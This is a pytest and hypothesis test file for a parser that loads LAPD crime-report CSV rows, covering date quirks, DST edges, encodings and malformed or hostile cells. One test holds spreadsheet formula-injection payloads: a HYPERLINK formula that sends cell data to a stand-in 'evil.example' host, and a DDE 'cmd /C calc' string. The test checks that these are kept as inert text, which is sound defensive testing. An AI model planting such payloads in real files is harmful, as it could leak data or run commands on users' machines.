"""LAPD CSV row parsing: date quirks to the right instants, codes, hostile cells; property tests."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import hypothesis.strategies as st
import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings

from geo.core.schema import TZ
from geo.data.sources import lapd
from geo.data.sources._csv import norm_key
from geo.data.sources._parse import local_times

HEADER = [
    "DR_NO",
    "Date Rptd",
    "DATE OCC",
    "TIME OCC",
    "AREA ",
    "AREA NAME",
    "Rpt Dist No",
    "Part 1-2",
    "Crm Cd",
    "Crm Cd Desc",
    "Mocodes",
    "Vict Age",
    "Vict Sex",
    "Vict Descent",
    "Premis Cd",
    "Premis Desc",
    "Weapon Used Cd",
    "Weapon Desc",
    "Status",
    "Status Desc",
    "Crm Cd 1",
    "",
    "",
    "",
    "LOCATION",
    "Cross Street",
    "LAT",
    "LON",
]


def row(**kw: str) -> list[str]:
    base = dict.fromkeys(HEADER, "")
    base.update(
        {
            "DR_NO": "010304468",
            "DATE OCC": "01/08/2020 00:00",
            "TIME OCC": "2230",
            "AREA ": "03",
            "Rpt Dist No": "0377",
            "Crm Cd": "624",
            "Crm Cd Desc": "BATTERY - SIMPLE ASSAULT",
            "Vict Age": "36",
            "Vict Sex": "F",
            "LOCATION": "1100 W  39TH                         PL",
            "LAT": "34.0141",
            "LON": "-118.2978",
        }
    )
    base.update({k.replace("_", " ") if k not in base else k: v for k, v in kw.items()})
    return [base[h] for h in HEADER]


def write(
    path: Path,
    rows: list[list[str]],
    *,
    bom: bool = False,
    crlf: bool = False,
    encoding: str = "utf-8",
    quoting: int = csv.QUOTE_MINIMAL,
) -> Path:
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\r\n" if crlf else "\n", quoting=quoting)
    w.writerow(HEADER)
    w.writerows(rows)
    path.write_bytes((b"\xef\xbb\xbf" if bom else b"") + buf.getvalue().encode(encoding))
    return path


@pytest.mark.parametrize(
    ("date", "time", "expected"),
    [
        ("12/20/2020 12:00:00 AM", "1308", "2020-12-20 13:08"),
        ("01/08/2020 00:00", "2230", "2020-01-08 22:30"),
        ("03/01/2020 0:00", "50", "2020-03-01 00:50"),  # stripped zeros: 00:50
        ("11/6/2022 0:00", "5", "2022-11-06 00:05"),
        ("2023-02-01T00:00:00.000", "0001", "2023-02-01 00:01"),
        ("07/04/2021 12:00:00 PM", "1200", "2021-07-04 12:00"),  # the date's own time is ignored
    ],
)
def test_date_quirks_parse_to_the_right_instant(date: str, time: str, expected: str) -> None:
    when, known = local_times(pd.Series([date]), pd.Series([time]))
    assert when.iloc[0] == pd.Timestamp(expected, tz=TZ)
    assert known[0]


def test_dst_edges_and_bad_times() -> None:
    when, known = local_times(
        pd.Series(["03/08/2020 0:00", "11/01/2020 0:00", "02/30/2020 0:00", "01/01/2020 0:00", ""]),
        pd.Series(["0230", "0130", "1200", "2575", "1200"]),
    )
    assert when.iloc[0] == pd.Timestamp("2020-03-08 03:00", tz=TZ)  # nonexistent 02:30 moves forward
    assert when.iloc[1].utcoffset() == dt.timedelta(hours=-7)  # ambiguous 01:30 read as daylight time
    assert pd.isna(when.iloc[2])
    assert pd.isna(when.iloc[4])
    assert when.iloc[3] == pd.Timestamp("2020-01-01", tz=TZ)
    assert known.tolist() == [True, True, False, False, False]


def test_file_quirks_bom_crlf_blank_headers_area_space(tmp_path: Path) -> None:
    rows = [
        row(),
        row(DR_NO="200110444", **{"Vict Age": "0", "Vict Sex": "X", "LAT": "0", "LON": "0"}),
        row(DR_NO="190101086", **{"DATE OCC": "01/01/2020 12:00:00 AM", "TIME OCC": "330", "Vict Sex": ""}),
        row(DR_NO="190101087", **{"DATE OCC": "not a date"}),
        row(DR_NO="190101088", **{"LAT": "", "LON": ""}),
        row(DR_NO="190101089", **{"LAT": "40.7", "LON": "-74.0"}),
        row(DR_NO="10304468"),  # the same DR_NO with its leading zero stripped
        row(DR_NO=""),
    ]
    res = lapd.load_csv(write(tmp_path / "x.csv", rows, bom=True, crlf=True))
    assert res.rows_in == 8
    assert res.dropped == {
        "zero_coordinates": 1,
        "unparseable_date": 1,
        "no_coordinates": 1,
        "outside_la_county": 1,
        "duplicate_id": 1,
        "missing_id": 1,
    }
    f = res.frame.set_index("incident_id")
    assert list(f.index) == ["lapd:010304468", "lapd:190101086"]
    assert f.loc["lapd:010304468", "area"] == "3"
    assert f.loc["lapd:010304468", "rpt_dist"] == "377"
    assert f.loc["lapd:190101086", "occurred_at"] == pd.Timestamp("2020-01-01 03:30", tz=TZ)
    assert pd.isna(f.loc["lapd:190101086", "victim_sex"])
    assert res.quarantine["source_row"].tolist() == [2, 4, 5, 6, 7, 8]
    assert "column_22" in res.quarantine.columns  # blank header names kept as column_<n>


def test_malformed_rows_are_quarantined_with_their_text(tmp_path: Path) -> None:
    path = write(tmp_path / "x.csv", [row(), row(DR_NO="2")])
    with path.open("a") as fh:
        fh.write("123,only,three\n")
    res = lapd.load_csv(path)
    assert (res.rows_in, res.rows_kept, res.dropped) == (3, 2, {"malformed_row": 1})
    assert res.quarantine["raw_line"].iloc[0] == "123,only,three"


def test_formula_strings_are_kept_as_inert_text(tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    res = lapd.load_csv(write(tmp_path / "x.csv", [row(LOCATION=evil, **{"Crm Cd Desc": "+cmd|' /C calc'!A0"})]))
    assert res.frame["address_block"].iloc[0] == evil
    assert res.frame["offense_desc"].iloc[0] == "+cmd|' /C calc'!A0"


def test_cp1252_file_is_read_as_text(tmp_path: Path) -> None:
    res = lapd.load_csv(write(tmp_path / "x.csv", [row(LOCATION="100 E  PEÑA ST")], encoding="cp1252"))
    assert res.frame["address_block"].iloc[0] == "100 E PEÑA ST"
    assert res.notes["encoding"] == "cp1252"


# --- property tests -------------------------------------------------------------------------------

dates = st.datetimes(min_value=dt.datetime(2010, 1, 1), max_value=dt.datetime(2025, 12, 31)).map(
    lambda d: d.replace(second=0, microsecond=0)
)


def fmt_date(d: dt.datetime, style: int) -> str:
    if style == 0:
        return d.strftime("%m/%d/%Y 12:00:00 AM")
    if style == 1:
        return d.strftime("%m/%d/%Y 00:00")
    if style == 2:
        return f"{d.month}/{d.day}/{d.year} 0:00"
    return d.strftime("%Y-%m-%dT00:00:00.000")


@settings(max_examples=150, deadline=None)
@given(
    d=dates,
    style=st.integers(0, 3),
    pad_time=st.booleans(),
    dr=st.integers(1, 999_999_999),
    pad_dr=st.booleans(),
    age=st.integers(-5, 99),
)
def test_row_parser_properties(d: dt.datetime, style: int, pad_time: bool, dr: int, pad_dr: bool, age: int) -> None:
    hhmm = d.hour * 100 + d.minute
    raw = pd.DataFrame(
        [
            row(
                DR_NO=f"{dr:09d}" if pad_dr else str(dr),
                **{
                    "DATE OCC": fmt_date(d, style),
                    "TIME OCC": f"{hhmm:04d}" if pad_time else str(hhmm),
                    "Vict Age": str(age),
                },
            )
        ],
        columns=[h or f"column_{i}" for i, h in enumerate(HEADER, 1)],
    )
    keys = {norm_key(c): c for c in raw.columns if not c.startswith("column_")}
    out = lapd.stage(raw, keys, source="t")
    expected = pd.Timestamp(d).tz_localize(TZ, ambiguous=True, nonexistent="shift_forward")
    assert out["occurred_at"].iloc[0] == expected
    assert out["incident_id"].iloc[0] == f"lapd:{dr:09d}"
    assert (pd.isna(out["victim_age"].iloc[0])) == (age <= 0)


cell = st.text(alphabet=st.characters(blacklist_categories=["Cs"], blacklist_characters="\x00"), max_size=30)
"""Any text but NUL: a file with NUL bytes is refused as binary (see the hostile-input tests)."""


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(cells=st.lists(st.tuples(cell, cell, cell, cell, cell), min_size=1, max_size=20))
def test_any_cells_are_accounted_for_and_never_crash(tmp_path: Path, cells: list[tuple[str, ...]]) -> None:
    rows = [row(DR_NO=a, **{"DATE OCC": b, "TIME OCC": c, "LAT": d, "LON": e}) for a, b, c, d, e in cells]
    # QUOTE_ALL: a bare CR inside an unquoted cell is a line break to any CSV reader
    res = lapd.load_csv(write(tmp_path / "p.csv", rows, quoting=csv.QUOTE_ALL))
    assert res.rows_in == len(rows)
    assert res.rows_in == res.rows_kept + sum(res.dropped.values())
    assert len(res.quarantine) == sum(res.dropped.values())
    lat = res.frame["lat"].to_numpy()
    assert np.isfinite(lat).all()
    assert (lat != 0).all()
